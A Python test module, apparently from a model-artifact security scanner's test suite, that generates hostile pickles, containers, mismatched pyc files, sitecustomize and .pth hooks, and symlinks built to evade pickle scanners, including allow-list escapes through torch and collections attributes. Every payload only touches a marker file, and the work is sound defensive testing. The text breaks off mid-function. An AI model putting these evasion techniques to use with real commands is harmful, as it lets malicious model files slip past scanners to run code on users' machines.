"""Hostile kernels by design hole, for the deny-by-default artifact gate.

``build_corpus.py`` holds one kernel per well-known attack. This module adds a regression corpus
organised by *class of hole* (what a scanner can miss) crossed with *placement* (where in a kernel
the hostile file sits):

    classes     1 pickles the old scanner missed   2 containers          3 parser divergence
                4 global-name confusion            5 code that runs without being the reviewed source
                6 leaks and resources (links, FIFOs, deep JSON, huge files, odd names)
    placements  own     the file under its own kind of name (payload.pkl, x.7z, x.npy)
                innocent  an innocent name at the root or in a subdirectory (weights.dat, LICENSE,
                          assets/vocab.txt)
                samples   inside samples/ (extra.json, data.bin, or replacing example.json)
                model     inside the model: a member of the TorchScript archive model.pt (replaced,
                          appended to or added), or the whole ONNX model file replaced

Every pickle is written opcode by opcode: nothing here calls ``pickle.dumps`` on a live object and
nothing here loads one (only the control tests do, in a child process). Each payload, if anything
ever unpickled, imported or ran it, would create ``<markers>/<entry name>``, so a test can prove
that validation ran nothing. The payloads vary the way they reach a shell or Python on purpose
(os.system, posix.system, subprocess.getoutput/getstatusoutput/run, builtins.exec/eval, a
getattr(__import__) reduce chain, dotted attribute paths through allow-listed modules).

    python tests/security/hostile_classes.py OUT_DIR   # writes OUT_DIR/corpus/<entry>/, prints the table
"""

from __future__ import annotations

import gzip
import importlib.util
import io
import json
import os
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.security.build_corpus import (
    FIXED_ZIP_TIME,
    ONNX_BASE,
    TORCHSCRIPT_BASE,
    _short,
    _unicode,
    exec_pickle,
    os_system_pickle,
    reduce_chain_pickle,
    subprocess_pickle,
    zip_bytes,
)

Payload = Callable[[Path], bytes]  # marker file -> hostile bytes that would create it

MIB = 1024 * 1024
#: Just past the old scanner's 16 MiB sniff limit (``MAX_SNIFF_BYTES``).
LARGE_PAD = 17 * MIB
#: Fixed mtime for files whose pyc must match them (and for determinism).
FIXED_MTIME = 1_700_000_000

# -- pickle opcodes -------------------------------------------------------------------------------------

MARK, STOP, POP, POP_MARK, DUP = b"(", b".", b"0", b"1", b"2"
TUPLE, TUPLE1, REDUCE, STACK_GLOBAL, MEMOIZE = b"t", b"\x85", b"R", b"\x93", b"\x94"
EMPTY_DICT, NONE = b"}", b"N"


def _text(value: str) -> bytes:
    """A protocol-0 STRING argument; the corpus paths never need escaping (checked)."""
    if any(c in value for c in "'\\\n\r"):
        raise ValueError(f"cannot write {value!r} as a protocol-0 string without escapes")
    return b"S'" + value.encode() + b"'\n"


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _binput(index: int) -> bytes:
    return b"q" + bytes([index])


def _binget(index: int) -> bytes:
    return b"h" + bytes([index])


def _frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def _binbytes(size: int) -> bytes:
    return b"B" + struct.pack("<I", size)


def touch_command(marker: Path) -> str:
    command = f"touch {marker}"
    if any(c in command for c in "'\"\\\n\r;&|$`"):
        raise ValueError(f"marker path {marker} needs quoting; use a plain temporary directory")
    return command


def touch_source(marker: Path) -> str:
    """Python source that creates the marker without a shell."""
    return f"open({str(marker)!r}, 'w').close()"


def _call0(module: str, name: str, argument: str) -> bytes:
    """Protocol 0: GLOBAL, MARK, STRING, TUPLE, REDUCE (leaves the call's result on the stack)."""
    return _global(module, name) + MARK + _text(argument) + TUPLE + REDUCE


def _call1(module: str, name: str, argument: str) -> bytes:
    """Protocol 1: GLOBAL, MARK, BINUNICODE, TUPLE, REDUCE."""
    return _global(module, name) + MARK + _unicode(argument) + TUPLE + REDUCE


def _call2(module: str, name: str, argument: str) -> bytes:
    """Protocol 2: GLOBAL, BINUNICODE, TUPLE1, REDUCE."""
    return _global(module, name) + _unicode(argument) + TUPLE1 + REDUCE


def _call4(module: str, name: str, argument: str) -> bytes:
    """Protocol 4: SHORT_BINUNICODE x2, STACK_GLOBAL, BINUNICODE, TUPLE1, REDUCE."""
    return _short(module) + _short(name) + STACK_GLOBAL + _unicode(argument) + TUPLE1 + REDUCE


# -- class 1: pickles the old scanner missed -------------------------------------------------------------
# pickletools.genops parses INT/LONG arguments with int(x) (base 10) while pickle.loads (C and
# Python) parses them with base 0, so "I0x1f" stops the disassembler at byte 0 and loads fine.


def p0_int_hex(marker: Path) -> bytes:
    """Headerless protocol 0 starting with INT 0x1f (genops rejects it, loads accepts), posix.system."""
    return b"I0x1f\n" + POP + _call0("posix", "system", touch_command(marker)) + STOP


def p0_long_hex(marker: Path) -> bytes:
    """Headerless protocol 0 starting with LONG 0x10L, subprocess.getoutput."""
    return b"L0x10L\n" + POP + _call0("subprocess", "getoutput", touch_command(marker)) + STOP


def p1_mark_pop(marker: Path) -> bytes:
    """Headerless protocol 1: MARK/POP and EMPTY_DICT/POP prefix, then builtins.exec of source."""
    prefix = MARK + POP + MARK + POP + EMPTY_DICT + POP
    return prefix + _call1("builtins", "exec", touch_source(marker)) + STOP


def p1_dup_reduce_chain(marker: Path) -> bytes:
    """Headerless protocol 1: NONE/DUP/POP prefix, then getattr(__import__('os'), 'system')(cmd)."""
    return (
        NONE + DUP + POP + POP
        + _global("builtins", "getattr") + MARK
        + _global("builtins", "__import__") + MARK + _unicode("os") + TUPLE + REDUCE
        + _unicode("system") + TUPLE + REDUCE
        + MARK + _unicode(touch_command(marker)) + TUPLE + REDUCE + STOP
    )


def p0_broken_after_reduce(marker: Path) -> bytes:
    """os.system runs at REDUCE; the stream then breaks (invalid opcode, no STOP)."""
    return _call0("os", "system", touch_command(marker)) + b"\xff\xfe garbage where STOP should be"


def p2_truncated_after_reduce(marker: Path) -> bytes:
    """Protocol 2 cut right after REDUCE (no STOP): loads raises, after running the command."""
    return b"\x80\x02" + _call2("subprocess", "getstatusoutput", touch_command(marker))


def large_binbytes(marker: Path) -> bytes:
    """Headerless 17 MiB BINBYTES (past the 16 MiB sniff limit), POP, then os.system."""
    padding = _binbytes(LARGE_PAD) + bytes(LARGE_PAD) + POP
    return padding + _call1("os", "system", touch_command(marker)) + STOP


def large_mark_pop(marker: Path) -> bytes:
    """17 MiB of MARK/POP padding, then subprocess.getoutput."""
    return (MARK + POP) * (LARGE_PAD // 2) + _call0("subprocess", "getoutput", touch_command(marker)) + STOP


def concat_second(marker: Path) -> bytes:
    """A harmless pickle, then the hostile one: readers that call load() repeatedly (torch's legacy
    format does) run it; a sniffer that reads only the first pickle sees None."""
    return NONE + STOP + b"\x80\x02" + _call2("posix", "system", touch_command(marker)) + STOP


# -- class 3: parser divergence ---------------------------------------------------------------------------
# The C unpickler checks only that a FRAME's bytes are available and then reads across frame
# boundaries; the pure-Python unpickler (and scanners built on it) enforce frames, and genops
# ignores them.


def frame_short(marker: Path) -> bytes:
    """A FRAME that declares 3 bytes but the global and the call lie past its end."""
    return b"\x80\x04" + _frame(3) + _call4("os", "system", touch_command(marker)) + STOP


def frame_nested(marker: Path) -> bytes:
    """A FRAME inside a FRAME (the Python unpickler refuses, C runs it)."""
    body = _call4("subprocess", "getoutput", touch_command(marker)) + STOP
    return b"\x80\x04" + _frame(len(body) + 9) + _frame(5) + body


def frame_int_hex(marker: Path) -> bytes:
    """A well-formed frame whose first opcode is INT 0x1f: genops stops there, loads goes on."""
    body = b"I0x1f\n" + POP + _call4("posix", "system", touch_command(marker)) + STOP
    return b"\x80\x04" + _frame(len(body)) + body


def memo_mixed(marker: Path) -> bytes:
    """Headerless: the names go through every memo opcode form (text PUT/GET with a large index,
    LONG_BINPUT/LONG_BINGET) into a STACK_GLOBAL, an opcode no protocol-0 stream should hold."""
    return (
        _text("posix") + b"p70000\n" + POP
        + _unicode("system") + b"r" + struct.pack("<I", 131072) + POP
        + b"g70000\n" + b"j" + struct.pack("<I", 131072) + STACK_GLOBAL
        + MARK + _text(touch_command(marker)) + TUPLE + REDUCE + STOP
    )


def proto_mid_dotted(marker: Path) -> bytes:
    """No header; PROTO 4 in the middle turns on dotted names: GLOBAL builtins getattr.__self__.exec
    is builtins.exec (getattr.__self__ is the builtins module)."""
    return (
        NONE + POP + b"\x80\x04" + _global("builtins", "getattr.__self__.exec")
        + _unicode(touch_source(marker)) + TUPLE1 + REDUCE + STOP
    )


# -- class 4: global-name confusion -----------------------------------------------------------------------
# A scanner that pairs "the last two strings" (or tracks the memo only for strings) with
# STACK_GLOBAL reads collections.OrderedDict or torch._utils._rebuild_tensor_v2 (allow-listed for
# TorchScript) where the unpickler resolves os.system.


def sg_pop_decoys(marker: Path) -> bytes:
    """'os' 'system' pushed, then decoys 'collections' 'OrderedDict' pushed and POPped."""
    return (
        b"\x80\x04" + _short("os") + _short("system") + _short("collections") + _short("OrderedDict")
        + POP + POP + STACK_GLOBAL + _unicode(touch_command(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_mark_decoys(marker: Path) -> bytes:
    """Decoys inside MARK ... POP_MARK."""
    return (
        b"\x80\x04" + _short("posix") + _short("system")
        + MARK + _short("torch._utils") + _short("_rebuild_tensor_v2") + POP_MARK
        + STACK_GLOBAL + _unicode(touch_command(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_memo_shift(marker: Path) -> bytes:
    """A memoized dict shifts MEMOIZE indices for a string-only memo tracker: fetching 1 and 3
    gives subprocess.getoutput, the tracker's slots 1 and 3 hold collections and OrderedDict."""
    strings = ("subprocess", "collections", "getoutput", "OrderedDict")
    return (
        b"\x80\x04" + EMPTY_DICT + MEMOIZE + POP
        + b"".join(_short(s) + MEMOIZE + POP for s in strings)
        + _binget(1) + _binget(3) + STACK_GLOBAL
        + _unicode(touch_command(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_dup_overwrite(marker: Path) -> bytes:
    """Memo slots 0/1 first hold collections/OrderedDict, then are overwritten with os/system
    through DUP + BINPUT (a tracker that records only 'string then PUT' misses the overwrite)."""
    return (
        b"\x80\x04"
        + _short("collections") + _binput(0) + POP + _short("OrderedDict") + _binput(1) + POP
        + _short("os") + DUP + _binput(0) + POP + POP
        + _short("system") + DUP + _binput(1) + POP + POP
        + _binget(0) + _binget(1) + STACK_GLOBAL
        + _unicode(touch_command(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_jit_builtins(marker: Path) -> bytes:
    """torch.jit._pickle + restore_type_tag.__builtins__.get: matches "torch.jit._pickle.*"; the call
    returns builtins.exec, the second REDUCE runs the source."""
    return (
        b"\x80\x04" + _short("torch.jit._pickle") + _short("restore_type_tag.__builtins__.get") + STACK_GLOBAL
        + _unicode("exec") + TUPLE1 + REDUCE
        + _unicode(touch_source(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_utils_globals(marker: Path) -> bytes:
    """torch._utils + _rebuild_tensor_v2.__globals__.get -> torch._utils._import_dotted_name,
    which imports posix.system, which runs the command."""
    return (
        b"\x80\x04" + _short("torch._utils") + _short("_rebuild_tensor_v2.__globals__.get") + STACK_GLOBAL
        + _unicode("_import_dotted_name") + TUPLE1 + REDUCE
        + _unicode("posix.system") + TUPLE1 + REDUCE
        + _unicode(touch_command(marker)) + TUPLE1 + REDUCE + STOP
    )


def sg_collections_builtins(marker: Path) -> bytes:
    """collections + namedtuple.__builtins__.get -> builtins.eval of an expression."""
    expression = f"__import__('os').system({touch_command(marker)!r})"
    return (
        b"\x80\x04" + _short("collections") + _short("namedtuple.__builtins__.get") + STACK_GLOBAL
        + _unicode("eval") + TUPLE1 + REDUCE
        + _unicode(expression) + TUPLE1 + REDUCE + STOP
    )


def subprocess_run_list(marker: Path) -> bytes:
    """subprocess.run(['touch', marker]): an argument list, no shell (inner payload of containers)."""
    return (
        b"\x80\x02" + _global("subprocess", "run") + b"]" + MARK
        + _unicode("touch") + _unicode(str(marker)) + b"e" + TUPLE1 + REDUCE + STOP
    )


@dataclass(frozen=True)
class Family:
    """A payload family: how the bytes are built and how a real consumer would load them."""

    name: str
    klass: str
    what: str
    build: Payload
    loader: str = "loads"  # see tests/security/test_gate_classes.py: CONTROL_SCRIPT
    needs_torch: bool = False


PICKLE_FAMILIES: dict[str, Family] = {
    f.name: f
    for f in (
        Family("p0-int-hex", "1", "headerless protocol 0 starting with INT 0x1f", p0_int_hex),
        Family("p0-long-hex", "1", "headerless protocol 0 starting with LONG 0x10L", p0_long_hex),
        Family("p1-mark-pop", "1", "headerless protocol 1 with MARK/POP prefix, builtins.exec", p1_mark_pop),
        Family("p1-dup-chain", "1", "headerless protocol 1, DUP prefix, getattr/__import__ chain",
               p1_dup_reduce_chain),
        Family("p0-broken-after-reduce", "1", "garbage right after REDUCE, no STOP", p0_broken_after_reduce),
        Family("p2-truncated-after-reduce", "1", "stream ends right after REDUCE", p2_truncated_after_reduce),
        Family("large-binbytes", "1", "17 MiB BINBYTES before the global", large_binbytes),
        Family("large-mark-pop", "1", "17 MiB of MARK/POP before the global", large_mark_pop),
        Family("concat-second", "1", "third of three concatenated pickles is hostile", concat_second,
               loader="load_all"),
        Family("frame-short", "3", "FRAME shorter than its content", frame_short),
        Family("frame-nested", "3", "FRAME inside a FRAME", frame_nested),
        Family("frame-int-hex", "3", "frame starting with INT 0x1f (genops stops, loads goes on)",
               frame_int_hex),
        Family("memo-mixed", "3", "text PUT/GET and LONG_BINPUT/LONG_BINGET into STACK_GLOBAL", memo_mixed),
        Family("proto-mid-dotted", "3", "PROTO 4 mid-stream, GLOBAL builtins getattr.__self__.exec",
               proto_mid_dotted),
        Family("sg-pop-decoys", "4", "STACK_GLOBAL os.system behind popped decoy strings", sg_pop_decoys),
        Family("sg-mark-decoys", "4", "STACK_GLOBAL posix.system behind MARK/POP_MARK decoys",
               sg_mark_decoys),
        Family("sg-memo-shift", "4", "memo indices shifted by a memoized dict", sg_memo_shift),
        Family("sg-dup-overwrite", "4", "memo slots overwritten through DUP + BINPUT", sg_dup_overwrite),
        Family("sg-jit-builtins", "4", "torch.jit._pickle restore_type_tag.__builtins__.get -> exec",
               sg_jit_builtins, needs_torch=True),
        Family("sg-utils-globals", "4", "torch._utils _rebuild_tensor_v2.__globals__.get -> os.system",
               sg_utils_globals, needs_torch=True),
        Family("sg-collections-builtins", "4", "collections namedtuple.__builtins__.get -> eval",
               sg_collections_builtins),
    )
}


# -- class 2: containers ----------------------------------------------------------------------------------


def _seven_zip_number(value: int) -> bytes:
    """7z's variable-length UINT64: leading one bits in the first byte count the extra bytes."""
    for extra in range(8):
        if value < 1 << (8 * extra + 7 - extra):
            first = ((0xFF << (8 - extra)) & 0xFF) | (value >> (8 * extra))
            return bytes([first]) + (value & ((1 << (8 * extra)) - 1)).to_bytes(extra, "little")
    return b"\xff" + value.to_bytes(8, "little")


def seven_zip_bytes(name: str, data: bytes) -> bytes:
    """A minimal valid 7z archive holding one file, stored with the Copy coder (method id 00)."""
    number = _seven_zip_number
    names = name.encode("utf-16-le") + b"\x00\x00"
    header = b"".join((
        b"\x01",  # kHeader
        b"\x04",  # kMainStreamsInfo
        b"\x06", number(0), number(1), b"\x09", number(len(data)), b"\x00",  # kPackInfo .. kEnd
        b"\x07", b"\x0b", number(1), b"\x00",  # kUnPackInfo, kFolder, 1 folder, not external
        number(1), b"\x01", b"\x00",  # 1 coder: id size 1, simple, no properties; id 00 = Copy
        b"\x0c", number(len(data)), b"\x00",  # kCodersUnPackSize, kEnd
        b"\x08", b"\x0a", b"\x01", struct.pack("<I", zlib.crc32(data)), b"\x00",  # kSubStreamsInfo: kCRC
        b"\x00",  # kEnd (streams info)
        b"\x05", number(1),  # kFilesInfo, 1 file
        b"\x11", number(len(names) + 1), b"\x00", names,  # kName, size, not external, UTF-16LE
        b"\x00",  # kEnd (files info)
        b"\x00",  # kEnd (header)
    ))
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def tar_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), FIXED_MTIME, 0o644
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy_object_bytes(pickled: bytes) -> bytes:
    """A .npy file (format 1.0) of dtype object: numpy's loader unpickles what follows the header."""
    magic = b"\x93NUMPY\x01\x00"
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (-(len(magic) + 2 + len(header) + 1) % 64) + "\n"
    return magic + struct.pack("<H", len(header)) + header.encode("latin-1") + pickled


def _nested_zip(payload: bytes, depth: int) -> bytes:
    data = zip_bytes({"state/payload.pkl": payload})
    for level in range(depth - 1):
        data = zip_bytes({"README.txt": b"nested bundle\n", f"level{level}.zip": data})
    return data


SHELL_PREFIX = b"#!/bin/sh\nexec true\n" + b"\n" * 200  # a self-extracting archive's stub

CONTAINER_FAMILIES: dict[str, Family] = {
    f.name: f
    for f in (
        Family("7z", "2", "7z archive (Copy coder) holding an os.system pickle",
               lambda m: seven_zip_bytes("state.pkl", os_system_pickle(m)), loader="7z"),
        Family("tar", "2", "tar holding a getattr/__import__ chain pickle",
               lambda m: tar_bytes({"weights/state.pkl": reduce_chain_pickle(m)}), loader="tar"),
        Family("gzip", "2", "gzip of a STACK_GLOBAL subprocess pickle",
               lambda m: gzip.compress(subprocess_pickle(m), mtime=0), loader="gzip"),
        Family("npy", "2", "numpy .npy object array whose data is a builtins.exec pickle",
               lambda m: npy_object_bytes(exec_pickle(m)), loader="npy"),
        Family("npz", "2", "numpy .npz with an object-array member",
               lambda m: zip_bytes({"arr_0.npy": npy_object_bytes(subprocess_run_list(m))}), loader="npz"),
        Family("zip-prefixed", "2", "zip with a shell script before its first local header",
               lambda m: SHELL_PREFIX + zip_bytes({"vocab/data": os_system_pickle(m)}), loader="zip"),
        Family("zip-trailing", "2", "zip with data after the end-of-central-directory record",
               lambda m: zip_bytes({"state.pkl": p0_int_hex(m)}) + b"\x00" * 64 + b"trailing data",
               loader="zip"),
        Family("zip-nested", "2", "pickle in a zip four zips deep",
               lambda m: _nested_zip(reduce_chain_pickle(m), 4), loader="zip"),
    )
}


# -- placements ---------------------------------------------------------------------------------------------

#: TorchScript archive slots: (member under the archive's prefix, how the payload goes in).
TS_SLOTS: dict[str, tuple[str, str]] = {
    "data.pkl": ("data.pkl", "replace"),
    "data.pkl+": ("data.pkl", "append"),  # after the real pickle: torch.jit.load still works
    "constants.pkl": ("constants.pkl", "replace"),
    "debug_pkl": ("code/__torch__/torch/nn/modules/linear.py.debug_pkl", "replace"),
    "extra": ("extra/x", "add"),
    "data99": ("data/99", "add"),
}
PLACEMENT_KINDS = ("own", "innocent", "samples", "model")


def _copy(base: Path, kernel: Path) -> None:
    shutil.copytree(base, kernel, symlinks=True)


def _torchscript_members() -> tuple[str, dict[str, bytes]]:
    with zipfile.ZipFile(TORCHSCRIPT_BASE / "model.pt") as original:
        members = {info.filename: original.read(info) for info in original.infolist()}
    prefix = next(n for n in members if n.endswith("/data.pkl"))[: -len("data.pkl")]
    return prefix, members


def _write_zip(path: Path, members: dict[str, bytes | Callable[[], Iterable[bytes]]],
               deflated: Iterable[str] = ()) -> None:
    """Stored members (what torch writes), except ``deflated``; a callable member is streamed."""
    deflated = set(deflated)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, FIXED_ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED if name in deflated else zipfile.ZIP_STORED
            if callable(data):
                with archive.open(info, "w", force_zip64=True) as handle:
                    for chunk in data():
                        handle.write(chunk)
            else:
                archive.writestr(info, data)


def torchscript_with(kernel: Path, slot: str, data: bytes) -> str:
    """Copy the TorchScript example into ``kernel`` with ``data`` in archive slot ``slot``;
    returns the finding name of the member (``model.pt!<member>``)."""
    _copy(TORCHSCRIPT_BASE, kernel)
    prefix, members = _torchscript_members()
    member, how = TS_SLOTS[slot]
    name = prefix + member
    members[name] = members[name] + data if how == "append" else data
    _write_zip(kernel / "model.pt", members)
    return f"model.pt!{name}"


@dataclass(frozen=True)
class Placement:
    #: "own:payload.pkl", "root:weights.dat", "sub:assets/vocab.txt", "samples:extra.json", "ts:extra", "onnx"
    key: str

    @property
    def kind(self) -> str:
        head = self.key.split(":", 1)[0]
        return {"own": "own", "root": "innocent", "sub": "innocent", "samples": "samples"}.get(head, "model")

    @property
    def slug(self) -> str:
        return self.key.replace(":", "-").replace("/", "-")

    def place(self, kernel: Path, data: bytes) -> tuple[str, ...]:
        """Write ``data`` into a fresh kernel at this placement; the relative names a finding
        may give for it."""
        head, _, rest = self.key.partition(":")
        if head == "ts":
            member = torchscript_with(kernel, rest, data)
            return (member, "model.pt")
        _copy(ONNX_BASE, kernel)
        relative = {"samples": f"samples/{rest}", "onnx": "model.onnx"}.get(head, rest)
        target = kernel / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        return (relative,)


# -- entries --------------------------------------------------------------------------------------------

#: Finding codes of the artifact gate (and the contract checks) that count as the right reason.
PICKLE_CODES = frozenset({"KS402", "KS403", "KS404", "KS406", "KS407"})
ARCHIVE_CODES = PICKLE_CODES | {"KS408"}
SIZE_CODES = frozenset({"KS409", "KS410"})
CODE_CODES = frozenset({"KS402", "KS407"})
LINK_CODES = frozenset({"KS405"})


@dataclass(frozen=True)
class GateEntry:
    name: str
    klass: str  # "1".."6"
    placement: str  # own | innocent | samples | model | kernel (class 5/6 specific)
    what: str
    build: Callable[[Path, Path], tuple[str, ...]]  # (kernel dir, marker) -> relative names to report
    codes: frozenset[str]
    container: str | None = None
    skip_samples: bool = True
    heavy: bool = False  # 100,000 files, 200 MB decompression: run alone, marked slow


def _payload_entry(family: Family, key: str, codes: frozenset[str] = PICKLE_CODES) -> GateEntry:
    placement = Placement(key)
    extra = ARCHIVE_CODES if placement.kind == "model" else frozenset()
    extra |= {"KS302"} if placement.kind == "samples" else frozenset()
    extra |= SIZE_CODES if family.name.startswith("large-") else frozenset()

    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        return placement.place(kernel, family.build(marker))

    return GateEntry(
        f"{family.name}--{placement.slug}", family.klass, placement.kind, f"{family.what} at {key}", build,
        codes | extra, container=family.name if family.klass == "2" else None,
    )


#: Which placements each payload family is put in. Every class covers every placement kind.
PICKLE_MATRIX: dict[str, tuple[str, ...]] = {
    "p0-int-hex": ("own:payload.pkl", "root:weights.dat", "samples:extra.json", "ts:data.pkl", "onnx"),
    "p0-long-hex": ("root:README.md", "samples:data.bin", "ts:constants.pkl", "onnx"),
    "p1-mark-pop": ("sub:assets/vocab.txt", "samples:example.json", "ts:debug_pkl"),
    "p1-dup-chain": ("root:LICENSE", "samples:extra.json", "ts:extra"),
    "p0-broken-after-reduce": ("own:payload.pkl", "sub:assets/vocab.txt", "samples:example.json",
                               "ts:data99", "onnx"),
    "p2-truncated-after-reduce": ("root:weights.dat", "ts:data.pkl"),
    "large-binbytes": ("root:weights.dat", "samples:data.bin", "ts:data99"),
    "large-mark-pop": ("sub:assets/vocab.txt", "ts:extra"),
    "concat-second": ("root:README.md", "samples:example.json", "ts:constants.pkl", "onnx"),
    "frame-short": ("own:payload.pkl", "sub:assets/vocab.txt", "samples:data.bin", "ts:data.pkl+", "onnx"),
    "frame-nested": ("root:LICENSE", "samples:extra.json", "ts:extra"),
    "frame-int-hex": ("root:weights.dat", "samples:example.json", "ts:debug_pkl", "onnx"),
    "memo-mixed": ("sub:assets/vocab.txt", "samples:extra.json", "ts:constants.pkl"),
    "proto-mid-dotted": ("own:payload.pkl", "sub:assets/vocab.txt", "samples:data.bin", "ts:data99"),
    "sg-pop-decoys": ("own:payload.pkl", "root:README.md", "samples:extra.json", "ts:data.pkl+",
                      "ts:data.pkl", "onnx"),
    "sg-mark-decoys": ("sub:assets/vocab.txt", "ts:data.pkl+", "ts:constants.pkl"),
    "sg-memo-shift": ("root:weights.dat", "samples:data.bin", "ts:data.pkl+", "ts:extra"),
    "sg-dup-overwrite": ("root:LICENSE", "samples:example.json", "ts:data.pkl+", "ts:debug_pkl"),
    "sg-jit-builtins": ("own:payload.pkl", "sub:assets/vocab.txt", "ts:data.pkl+", "ts:data.pkl",
                        "ts:extra", "onnx"),
    "sg-utils-globals": ("samples:extra.json", "ts:data.pkl+", "ts:data99"),
    "sg-collections-builtins": ("root:README.md", "ts:data.pkl+"),
}

CONTAINER_MATRIX: dict[str, tuple[str, ...]] = {
    "7z": ("own:x.7z", "root:weights.dat", "samples:data.bin", "ts:extra", "onnx"),
    "tar": ("own:x.tar", "sub:assets/vocab.txt", "samples:extra.json", "ts:data99", "onnx"),
    "gzip": ("own:x.gz", "root:README.md", "samples:example.json", "ts:constants.pkl", "onnx"),
    "npy": ("own:x.npy", "root:weights.dat", "sub:assets/vocab.txt", "samples:data.bin", "ts:data99", "onnx"),
    "npz": ("own:x.npz", "root:LICENSE", "samples:extra.json", "ts:extra", "onnx"),
    "zip-prefixed": ("own:x.zip", "sub:assets/vocab.txt", "samples:data.bin", "ts:extra", "onnx"),
    "zip-trailing": ("own:x.zip", "root:weights.dat", "samples:example.json", "ts:data99", "onnx"),
    "zip-nested": ("own:x.zip", "sub:assets/vocab.txt", "samples:extra.json", "ts:extra", "onnx"),
}


# -- class 5: code that runs without being the reviewed source -------------------------------------------

HANDLER_SOURCE = (
    '"""Identity pre-processing (the reviewed source)."""\n\n\n'
    "def preprocess(inputs):\n    return inputs\n"
)


def _hostile_source(marker: Path) -> str:
    return (
        "import os\n"
        f"os.system({touch_command(marker)!r})\n\n\n"
        "def preprocess(inputs):\n    return inputs\n"
    )


def pyc_bytes(source: str, filename: str, mtime: int, source_size: int) -> bytes:
    """A timestamp-based pyc as the running interpreter writes it: magic, flags 0, mtime, size, code."""
    code = compile(source, filename, "exec")
    return bytes(importlib._bootstrap_external._code_to_timestamp_pyc(code, mtime, source_size))  # type: ignore[attr-defined]


def _with_metadata(kernel: Path, change: Callable[[dict], None]) -> None:
    path = kernel / "model_metadata.json"
    metadata = json.loads(path.read_text())
    change(metadata)
    path.write_text(json.dumps(metadata, indent=1) + "\n")


def _handler_kernel(kernel: Path) -> Path:
    _copy(ONNX_BASE, kernel)
    _with_metadata(kernel, lambda m: m.update(preprocessing={"handler": "handler.py"}))
    handler = kernel / "handler.py"
    handler.write_text(HANDLER_SOURCE)
    os.utime(handler, (FIXED_MTIME, FIXED_MTIME))
    return handler


def handler_with_pyc(kernel: Path, marker: Path) -> tuple[str, ...]:
    """A harmless handler.py and a __pycache__ pyc whose mtime and size match it: importing the
    handler runs the pyc, not the reviewed source."""
    handler = _handler_kernel(kernel)
    cached = Path(importlib.util.cache_from_source(str(handler)))
    cached.parent.mkdir()
    info = handler.stat()
    cached.write_bytes(pyc_bytes(_hostile_source(marker), str(handler), int(info.st_mtime), info.st_size))
    return (cached.relative_to(kernel).as_posix(),)


def stray_pyc(kernel: Path, marker: Path) -> tuple[str, ...]:
    """A sourceless utils.pyc at the root: ``import utils`` with the kernel on sys.path runs it."""
    _copy(ONNX_BASE, kernel)
    (kernel / "utils.pyc").write_bytes(pyc_bytes(_hostile_source(marker), "utils.py", FIXED_MTIME, 0))
    return ("utils.pyc",)


def _python_file(relative: str, source: Callable[[Path], str]) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(ONNX_BASE, kernel)
        (kernel / relative).write_text(source(marker))
        return (relative,)

    return build


def _site_source(marker: Path) -> str:
    return f"import subprocess\nsubprocess.getoutput({touch_command(marker)!r})\n"


def _pth_source(marker: Path) -> str:
    return f"import os; os.system({touch_command(marker)!r})\n"


CODE_ENTRIES = [
    GateEntry("handler-pycache-pyc", "5", "kernel",
              "harmless handler.py, its __pycache__ pyc (matching mtime/size) touches the marker",
              handler_with_pyc, CODE_CODES),
    GateEntry("handler-pycache-pyc-samples", "5", "kernel", "the same, validated with the golden samples "
              "(which import the handler)", handler_with_pyc, CODE_CODES, skip_samples=False),
    GateEntry("stray-pyc", "5", "kernel", "sourceless utils.pyc at the root", stray_pyc, CODE_CODES),
    GateEntry("sitecustomize", "5", "kernel", "sitecustomize.py (runs at interpreter start-up when the "
              "kernel is on PYTHONPATH)", _python_file("sitecustomize.py", _site_source), CODE_CODES),
    GateEntry("usercustomize", "5", "kernel", "usercustomize.py",
              _python_file("usercustomize.py", _site_source), CODE_CODES),
    GateEntry("pth-file", "5", "kernel", "a .pth file whose import line runs when the kernel is a site dir",
              _python_file("zz-kernel.pth", _pth_source), CODE_CODES),
]
#: How each class-5 entry's code would be run by a real consumer (the control tests do it).
CODE_CONTROLS: dict[str, tuple[str, str]] = {
    "handler-pycache-pyc": ("import-handler", "handler.py"),
    "stray-pyc": ("import-module", "utils"),
    "sitecustomize": ("site-startup", ""),
    "usercustomize": ("import-module", "usercustomize"),
    "pth-file": ("addsitedir", ""),
}


# -- class 6: leaks and resources --------------------------------------------------------------------------


def _outside(kernel: Path) -> Path:
    outside = kernel.parent.parent / "outside"
    outside.mkdir(exist_ok=True)
    return outside


def _link(relative: str, target: str | Callable[[Path, Path], str], base: Path = ONNX_BASE,
          handler: bool = False) -> Callable[[Path, Path], tuple[str, ...]]:
    def build(kernel: Path, marker: Path) -> tuple[str, ...]:
        _copy(base, kernel)
        if handler:
            _with_metadata(kernel, lambda m: m.update(preprocessing={"handler": relative}))
        path = kernel / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        path.symlink_to(target(kernel, marker) if callable(target) else target)
        return (relative,)

    return build


def _outside_handler(kernel: Path, marker: Path) -> str:
    """A hostile handler outside the kernel, linked in as handler.py."""
